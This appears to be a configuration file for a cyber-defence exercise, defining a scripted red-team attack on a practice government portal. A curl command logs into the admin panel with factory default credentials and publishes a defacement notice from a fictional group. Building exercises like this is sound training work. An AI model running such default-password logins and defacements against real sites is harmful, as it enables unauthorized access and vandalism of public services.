# The red team's timeline: one attack, which falls on each team at a time of
# its country's. The attacker image's curl is the tool; its User-Agent is the
# campaign's, and Apache's access log shows it.

attack "defacement-default-password" {
  title       = "Aviso falso de Colectivo Quimera publicado con la clave de fábrica del panel"
  description = "El atacante entra a /admin/ como admin con la clave de fábrica del proveedor y publica un aviso en la portada."
  technique   = ["T1078.001", "T1491.002"]
  # Chile's teams first, three minutes later every other team's (Colombia's).
  at     = team.country == "CL" ? "3m" : "6m"
  from   = attacker.red
  target = host.portal
  run = [
    "curl", "-sS", "-m", "20", "-A", "Quimera/2.1", "-u", "admin:Tramites2024",
    "--data-urlencode", "accion=publicar",
    "--data-urlencode", "titulo=Portal intervenido",
    "--data-urlencode", "texto=Colectivo Quimera estuvo aqui. ref:${run.nonce}",
    "http://${host.portal.address}/admin/avisos.php",
  ]
  timeout = "1m"
  success {
    output_matches = "Aviso publicado"
    http {
      url          = "http://${host.portal.address}/"
      body_matches = "ref:${run.nonce}"
    }
  }
}
